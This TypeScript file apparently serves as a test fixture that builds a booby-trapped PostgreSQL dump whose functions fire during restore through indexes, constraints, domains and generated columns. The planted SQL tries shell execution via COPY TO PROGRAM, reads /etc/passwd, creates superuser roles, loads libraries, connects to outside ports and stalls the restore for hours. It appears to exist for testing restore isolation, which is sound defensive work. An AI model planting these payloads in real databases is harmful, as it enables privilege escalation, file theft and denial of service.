/** A database in which somebody planted what runs when its dump is restored. In the database itself nothing of it runs. */
export interface Planted {
  /** A folder in which everybody may write. */
  readonly guard: string;
  /** A TCP port that should not be called. */
  readonly port: number;
  readonly contrib: boolean;
}

/** Whether a session is one that made the database, and not one that restores it. */
const AT_HOME = "current_setting('test.at_home', true) IS NOT NULL";

/** What a function does where it is called in a restore, and not where it was written. */
const onlyInRestore = (work: string): string => `
  CREATE FUNCTION payload() RETURNS void VOLATILE SECURITY DEFINER LANGUAGE plpgsql AS $planted$
    BEGIN IF ${AT_HOME} THEN RETURN; END IF; ${work} END $planted$;
  CREATE FUNCTION at_restore(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $planted$
    BEGIN PERFORM public.payload(); RETURN $1; END $planted$;
  SET test.at_home = 'yes';`;

/** Statements that reach out of the database: into files, programs, the network, other sessions, and to rights. */
const reachingOut = ({ guard, port, contrib }: Planted): readonly string[] => [
  `COPY (SELECT 1) TO PROGRAM 'touch ${guard}/copy-to-program'`,
  `COPY public.sink FROM PROGRAM 'touch ${guard}/copy-from-program; echo 1'`,
  `COPY (SELECT 1) TO '${guard}/copy-to-file'`,
  `SELECT lo_export(77, '${guard}/lo-export')`,
  `SELECT lo_import('/etc/passwd')`,
  `SELECT 1 / (length(pg_read_file('/etc/passwd')) - length(pg_read_file('/etc/passwd')))`,
  `CREATE ROLE intruder SUPERUSER`,
  'ALTER ROLE CURRENT_USER SUPERUSER',
  'GRANT pg_execute_server_program TO CURRENT_USER',
  'GRANT pg_write_server_files TO CURRENT_USER',
  'SET ROLE postgres',
  'SET SESSION AUTHORIZATION postgres',
  `SET session_preload_libraries = 'nowhere'`,
  `LOAD '${guard}/library.so'`,
  `CREATE FUNCTION public.own_c() RETURNS int LANGUAGE c AS '/usr/lib/x86_64-linux-gnu/libc.so.6', 'getpid'`,
  `CREATE SUBSCRIPTION out CONNECTION 'host=127.0.0.1 port=${port} user=u password=p dbname=d' PUBLICATION p`,
  `CREATE EVENT TRIGGER mine ON ddl_command_start EXECUTE FUNCTION public.payload()`,
  'SELECT pg_reload_conf()',
  'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()',
  ...(contrib
    ? [
        `SELECT public.dblink_connect('host=127.0.0.1 port=${port} user=u password=p dbname=d')`,
        'SELECT count(*) FROM public.far_away',
      ]
    : []),
];

/** Every place where a restore calls a function of the database. */
const EVERY_HOOK = `
  CREATE TABLE sink (a text);
  CREATE TABLE by_index (a int); INSERT INTO by_index VALUES (1);
  CREATE INDEX ON by_index (public.at_restore(a));
  CREATE TABLE by_check (a int CHECK (public.at_restore(a) > 0)); INSERT INTO by_check VALUES (1);
  CREATE DOMAIN hostile AS int CHECK (public.at_restore(VALUE) > 0);
  CREATE TABLE by_domain (a hostile); INSERT INTO by_domain VALUES (1);
  CREATE TABLE by_generated (a int, b int GENERATED ALWAYS AS (public.at_restore(a)) STORED); INSERT INTO by_generated VALUES (1);
  CREATE TABLE by_foreign_key (a int REFERENCES by_parent);
  CREATE MATERIALIZED VIEW by_refresh AS SELECT public.at_restore(1);
  SELECT lo_from_bytea(77, 'in a file, this would be out');`.replace(
  'CREATE TABLE by_foreign_key',
  'CREATE TABLE by_parent (a int PRIMARY KEY CHECK (public.at_restore(a) > 0)); INSERT INTO by_parent VALUES (1); CREATE TABLE by_foreign_key',
);

const farAway = ({ port }: Planted): string => `
  CREATE EXTENSION dblink; CREATE EXTENSION postgres_fdw;
  CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '${port}');
  CREATE USER MAPPING FOR PUBLIC SERVER far OPTIONS (user 'u', password 'p');
  CREATE FOREIGN TABLE far_away (a int) SERVER far;`;

/** Tries everything at every place, and goes on where it is refused, so that the restore succeeds. */
export function triesEverything(planted: Planted): string {
  const attempts = reachingOut(planted).map((sql) => `BEGIN EXECUTE $sql$${sql}$sql$; EXCEPTION WHEN OTHERS THEN NULL; END;`);
  return `${planted.contrib ? farAway(planted) : ''} ${onlyInRestore(attempts.join('\n'))} ${EVERY_HOOK}`;
}

/** Does one thing while an index is built, and does not get over a refusal. */
export const does = (work: string): string => `
  CREATE TABLE filled (t text);
  ${onlyInRestore(work)}
  CREATE TABLE by_check (a int CHECK (public.at_restore(a) > 0)); INSERT INTO by_check VALUES (1);`;

/** Its restore would take hours, whatever limits a session sets. */
export const SLOW_TO_RESTORE = does(`SET statement_timeout = 0; PERFORM pg_sleep(36000);`);
